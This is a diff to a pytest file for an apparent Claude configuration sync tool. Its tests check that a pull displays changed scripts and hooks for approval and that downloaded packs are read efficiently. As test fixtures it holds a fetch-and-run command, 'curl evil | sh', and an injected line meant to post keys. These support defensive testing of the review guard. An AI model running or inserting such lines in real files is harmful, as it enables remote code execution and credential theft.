@@ -12,7 +12,9 @@ import json
 import os
 
 import pytest
-from conftest import Machine, snapshot_tree
+from conftest import Machine, snapshot_tree, transcript
+
+from claude_sync.errors import SyncError
 
 HOOKED_AGENT = """---
 name: helper
@@ -134,6 +136,24 @@ def test_on_a_terminal_pull_shows_the_code_and_asks(machines, repo_dir, answer):
     assert "curl evil | sh" in shown and '"hooks"' in shown
     assert status == (0 if answer == "y" else 3)
     assert (b.claude / "agents/helper.md").exists() == (answer == "y")
+
+
+def test_a_change_far_down_a_long_script_is_shown(machines, repo_dir):
+    """The question showed a script's first 40 lines, here and new: alike, and a line
+    changed further down never appeared. A changed script is shown by its changed lines."""
+    a, b = machines
+    set_up(a, b, repo_dir)
+    script = "".join(f"// phase {i}\n" for i in range(120))
+    a.write("workflows/std.js", script)
+    a.run("push")
+    b.answer("Apply it", "y", "pull")
+    a.write("workflows/std.js", script.replace("// phase 80\n", "await agent('post keys')\n"))
+    a.run("push")
+    shown, status = b.answer("Apply it", "n", "pull")
+    assert status == 3
+    assert "@@ line 79 of the new version" in shown
+    assert '- "// phase 80"' in shown and "+ \"await agent('post keys')\"" in shown
+    assert 'phase 10"' not in shown  # (not the lines alike)
 
 
 def test_a_first_pull_asks_once_and_a_folder_resolves_at_once(machines, repo_dir):
@@ -314,3 +334,61 @@ def test_resolving_a_held_file_reads_its_part_of_a_pack(machines, repo_dir):
     restored = b.json("restore", "agents/notes-07.md", "--snapshot", str(seq), "--force")
     assert (b.claude / "agents/notes-07.md").stat().st_size == 128 * 1024
     assert restored["downloaded_bytes"] < 256 * 1024
+
+
+def test_a_first_pull_reads_each_pack_once(make_machine, repo_dir):
+    """A first pull's code guard reads the new agents and settings, spread over the pack of
+    everything else; the pull, and its second pass for the sessions a longer clean-up
+    period brings, read that pack from the copy the guard kept (it was read three times)."""
+    a = make_machine("a")
+    settings = {"cleanupPeriodDays": 3650, "permissions": {"allow": ["Bash(ls)"]}}
+    a.write("settings.json", json.dumps(settings) + "\n")
+    for i in range(12):  # ~1.5 MiB that does not compress, beside the code
+        a.write(f"agents/notes-{i:02d}.md", os.urandom(64 * 1024).hex())
+        old = transcript(f"old{i}", 2).replace("2026", "2021")
+        old = old.replace("lorem ipsum " * 20, os.urandom(16 * 1024).hex())
+        a.write(f"projects/-srv-app/old{i}.jsonl", old, mtime=1_600_000_000)
+    a.write("agents/helper.md", HOOKED_AGENT)
+    a.run("init", str(repo_dir))
+    a.run("push")
+    b = make_machine("b")
+    b.run("init", str(repo_dir))
+    pulled = b.json("pull", expect=3)
+    assert sorted(pulled["conflicts"]) == ["agents/helper.md", "settings.json"]
+    assert "projects/-srv-app/old11.jsonl" in pulled["pulled"]
+    packs = sum(f.stat().st_size for f in (repo_dir / "data").rglob("*") if f.is_file())
+    assert packs <= pulled["downloaded_bytes"] < packs * 1.2
+    assert not (b.config_dir / "kept-packs").exists()
+
+
+def test_the_kept_packs_give_their_room_to_the_pull(
+    make_machine, repo_dir, cli_inprocess, monkeypatch
+):
+    """A disk that holds the pull's files only without the packs the guard kept: they are
+    given back, and read from the store again."""
+    from claude_sync import limits
+
+    a = make_machine("a")
+    for i in range(12):
+        a.write(f"agents/notes-{i:02d}.md", os.urandom(64 * 1024).hex())
+    a.write("agents/helper.md", HOOKED_AGENT)
+    a.run("init", str(repo_dir))
+    a.run("push")
+    b = make_machine("b")
+    b.run("init", str(repo_dir))
+    kept = b.config_dir / "kept-packs"
+    check_room = limits.check_room
+
+    def tight(files, root, held=0):
+        if kept.exists() and any(kept.iterdir()):
+            raise SyncError("not enough free space: (the test's)")
+        check_room(files, root, held)
+
+    monkeypatch.setattr(limits, "check_room", tight)
+    code, out, err = cli_inprocess("pull", "--json", machine=b)
+    assert code == 3, err
+    pulled = json.loads(out)
+    assert pulled["conflicts"] == ["agents/helper.md"]
+    assert (b.claude / "agents/notes-11.md").stat().st_size == 128 * 1024
+    packs = sum(f.stat().st_size for f in (repo_dir / "data").rglob("*") if f.is_file())
+    assert pulled["downloaded_bytes"] > packs * 1.9
